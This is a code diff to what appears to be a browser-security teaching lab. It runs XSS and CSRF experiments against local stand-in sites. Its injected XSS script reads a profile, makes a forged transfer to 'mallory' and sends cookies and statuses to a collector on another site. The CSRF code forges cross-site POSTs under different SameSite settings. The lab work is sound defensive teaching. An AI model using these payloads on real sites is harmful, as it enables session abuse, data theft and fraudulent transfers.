@@ -14,7 +14,9 @@ from importlib import resources
 from typing import Any
 from urllib.parse import quote
 
+from ..fleet.resulttable import ResultTable
 from .browser import Browser, Tab, chromium_path
+from .proof import Observation
 from .servers import BANK, OTHER_SITE, LabServer
 
 ALICE = ("alice@example.com", "wonderland")
@@ -31,8 +33,13 @@ class XssResult:
     document_cookie: str  # what document.cookie showed the script on the cookie page
     cookie_request_status: int  # status of the script's own GET /api/profile, cookie mode
     request_carried_cookie: bool  # that request was authenticated by the HttpOnly cookie
+    transfer_status: int = 0  # status of the script's own POST /lab/transfer (a change made as the user)
     chromium: str = ""
     recorded: bool = False
+
+    @property
+    def acted_as_user(self) -> bool:
+        return self.transfer_status == 200
 
     def __str__(self) -> str:
         return "\n".join([
@@ -43,6 +50,11 @@ class XssResult:
             f"(GET /api/profile -> {self.cookie_request_status})",
         ])
 
+    def report(self) -> str:
+        """`str(result)` and what the script changed as the user with the cookie it could not read."""
+        return str(self) + (f"\nthe script changed something as the user:     {self.acted_as_user} "
+                            f"(POST /lab/transfer -> {self.transfer_status})")
+
 
 @dataclass(frozen=True)
 class CsrfResult:
@@ -52,12 +64,25 @@ class CsrfResult:
     credential_sent: bool  # the forged request carried the credential
     status: int  # what the bank answered the forged request
     transferred: bool  # the money moved
+    cookies: tuple[str, ...] = ()  # names of the cookies the forged request carried, as the bank received it
     chromium: str = ""
     recorded: bool = False
 
     def __str__(self) -> str:
         outcome = "TRANSFERRED" if self.transferred else "refused"
         return f"{self.defence:<38} credential sent: {str(self.credential_sent):<5}  status {self.status}  {outcome}"
+
+
+def csrf_table(results: list[CsrfResult]) -> ResultTable:
+    """What the bank received from the forged cross-site POST and what it did, one row per credential."""
+    rows = [(result.defence, "Cookie: " + ", ".join(result.cookies) if result.cookies else "(no Cookie header)",
+             result.status, "TRANSFERRED" if result.transferred else "refused") for result in results]
+    version = next((result.chromium for result in results if result.chromium), "")
+    source = Observation([], not any(result.recorded for result in results), version).source
+    caption = ("a form on https://evil.test posts to https://bank.test, in the lab's Chromium "
+               "(third-party cookies blocked; a top-level POST is not a third-party request)")
+    return ResultTable.of(("login held as", "the forged POST /lab/transfer carried", "bank answered", "money"), rows,
+                          notes=[source], caption=caption)
 
 
 @dataclass(frozen=True)
@@ -88,8 +113,9 @@ def recorded(name: str) -> Any:
 def as_recorded(cls: Any, item: dict[str, Any], version: str) -> Any:
     values = {f.name: item[f.name] for f in fields(cls) if f.name in item}
     values.update(chromium=version, recorded=True)
-    if "cookie_reasons" in values:
-        values["cookie_reasons"] = tuple(values["cookie_reasons"])
+    for name in ("cookie_reasons", "cookies"):
+        if name in values:
+            values[name] = tuple(values[name])
     return cls(**values)
 
 
@@ -98,8 +124,8 @@ def recorded_xss_result() -> XssResult:
     return as_recorded(XssResult, item, version)
 
 
-def recorded_csrf_results() -> list[CsrfResult]:
-    items, version = recorded("csrf")
+def recorded_csrf_results(name: str = "csrf") -> list[CsrfResult]:
+    items, version = recorded(name)
     return [as_recorded(CsrfResult, item, version) for item in items]
 
 
@@ -124,11 +150,11 @@ def injected(script: str) -> str:
     return "/lab/search?q=" + quote(f"<script>{script}</script>", safe="")
 
 
-def run_live(experiment: Any, browser: Browser | None) -> Any:
+def run_live(experiment: Any, browser: Browser | None, *args: Any) -> Any:
     if browser is not None:
-        return browser.run(experiment, browser)
+        return browser.run(experiment, browser, *args)
     with Browser() as own:
-        return own.run(experiment, own)
+        return own.run(experiment, own, *args)
 
 
 def xss_experiment(browser: Browser | None = None) -> XssResult:
@@ -136,7 +162,8 @@ def xss_experiment(browser: Browser | None = None) -> XssResult:
 
     Token mode (a JWT in localStorage): the script reads it and sends it to a collector on the other
     site. Cookie mode (the same JWT in an HttpOnly cookie): the script cannot read it, yet its own
-    request to /api/profile carries it. HttpOnly stops theft, not use. Without Chromium: the recorded result.
+    requests carry it: it reads the profile and makes a transfer as the user. HttpOnly stops theft,
+    not use. Without Chromium: the recorded result.
     """
     if browser is None and not browser_available():
         return recorded_xss_result()
@@ -158,9 +185,11 @@ def run_xss(browser: Browser) -> XssResult:
             log_in(tab, cookie_lab)
             collector = cookie_lab.url(OTHER_SITE, "/lab/collect")
             tab.goto(cookie_lab.url(BANK, injected(
-                "fetch('/api/profile', {credentials: 'same-origin'}).then(r => "
+                "Promise.all([fetch('/api/profile', {credentials: 'same-origin'}), fetch('/lab/transfer', "
+                "{method: 'POST', credentials: 'same-origin', body: 'to=mallory&amount=1000', "
+                "headers: {'content-type': 'application/x-www-form-urlencoded'}})]).then(([r, t]) => "
                 f"new Image().src = '{collector}?cookie=' + encodeURIComponent(document.cookie) "
-                "+ '&status=' + r.status)")))
+                "+ '&status=' + r.status + '&transfer=' + t.status)")))
             cookie_lab.log.wait_for(lambda: bool(cookie_lab.log.stolen), WAIT)
             seen = cookie_lab.log.stolen[0] if cookie_lab.log.stolen else {}
         finally:
@@ -172,6 +201,7 @@ def run_xss(browser: Browser) -> XssResult:
         document_cookie=seen.get("cookie", ""),
         cookie_request_status=status,
         request_carried_cookie=status == 200,
+        transfer_status=int(seen.get("transfer", 0)),
         chromium=browser.version,
     )
 
@@ -182,6 +212,16 @@ CSRF_SETUPS = (
     ("session cookie, SameSite=Strict", "session", "Strict", "/lab/transfer"),
     ("Bearer token (localStorage)", "token", "keep", "/lab/transfer"),
     ("SameSite=None + CSRF token", "session", "None", "/lab/transfer-guarded"),
+)
+
+
+# The lesson's "best of both worlds", a JWT in a cookie (mode cookie-token), under each SameSite value.
+# The cookie without SameSite is minutes old at most: Chromium still sends it on a cross-site POST then.
+HYBRID_CSRF_SETUPS = (
+    ("JWT cookie, SameSite=None", "cookie-token", "None", "/lab/transfer"),
+    ("JWT cookie, no SameSite (under 2 min old)", "cookie-token", None, "/lab/transfer"),
+    ("JWT cookie, SameSite=Lax", "cookie-token", "Lax", "/lab/transfer"),
+    ("JWT cookie, SameSite=Strict (the lesson's)", "cookie-token", "Strict", "/lab/transfer"),
 )
 
 
@@ -196,6 +236,14 @@ def csrf_experiment(browser: Browser | None = None) -> list[CsrfResult]:
     return run_live(run_csrf, browser)
 
 
+def hybrid_csrf_experiment(browser: Browser | None = None) -> list[CsrfResult]:
+    """The same forged transfer against the cookie-token server (a JWT in an HttpOnly cookie), one row per
+    SameSite value of `HYBRID_CSRF_SETUPS`. Without Chromium: the recorded results."""
+    if browser is None and not browser_available():
+        return recorded_csrf_results("csrf_cookie_token")
+    return run_live(run_csrf, browser, HYBRID_CSRF_SETUPS)
+
+
 def forge_transfer(tab: Tab, lab: LabServer, path: str) -> int:
     target = lab.url(BANK, path)
     other = lab.url(OTHER_SITE, f"/lab/other?kind=form-post&target={quote(target, safe='')}")
@@ -204,9 +252,9 @@ def forge_transfer(tab: Tab, lab: LabServer, path: str) -> int:
     return response.value.status
 
 
-def run_csrf(browser: Browser) -> list[CsrfResult]:
+def run_csrf(browser: Browser, setups: tuple[tuple[str, str, str | None, str], ...] = CSRF_SETUPS) -> list[CsrfResult]:
     results = []
-    for defence, mode, same_site, path in CSRF_SETUPS:
+    for defence, mode, same_site, path in setups:
         with LabServer(mode, cookie_same_site=same_site) as lab:
             tab = browser.tab()
             try:
@@ -215,17 +263,18 @@ def run_csrf(browser: Browser) -> list[CsrfResult]:
             finally:
                 tab.close()
             attempt = [hit for hit in lab.log.hits if hit.path == path][-1]
-            results.append(CsrfResult(defence, attempt.credential,
-                                      status, bool(lab.log.transfers), browser.version))
+            results.append(CsrfResult(defence, attempt.credential, status, bool(lab.log.transfers),
+                                      tuple(sorted(attempt.cookies)), browser.version))
     return results
 
 
 def cross_domain_experiment(browser: Browser | None = None) -> CrossDomainResult:
     """A front end on front.test calls the API on bank.test with `fetch`: the session cookie, then a Bearer token.
 
-    The cookie (SameSite=Lax, the mini-server's default) stays home: the call is cross-site and
-    third-party cookies are blocked. The Bearer token is added by the front end's own code, so it
-    goes wherever that code sends it (the API allows the origin by CORS). Without Chromium: the recorded result.
+    The cookie (SameSite=Lax, the mini-server's default) stays home: the call is cross-site, and Lax (and
+    the lab's Chromium, which blocks third-party cookies) keep it off a cross-site fetch. The Bearer token
+    is added by the front end's own code, so it goes wherever that code sends it (the API allows the origin
+    by CORS). Without Chromium: the recorded result.
     """
     if browser is None and not browser_available():
         return recorded_cross_domain_result()
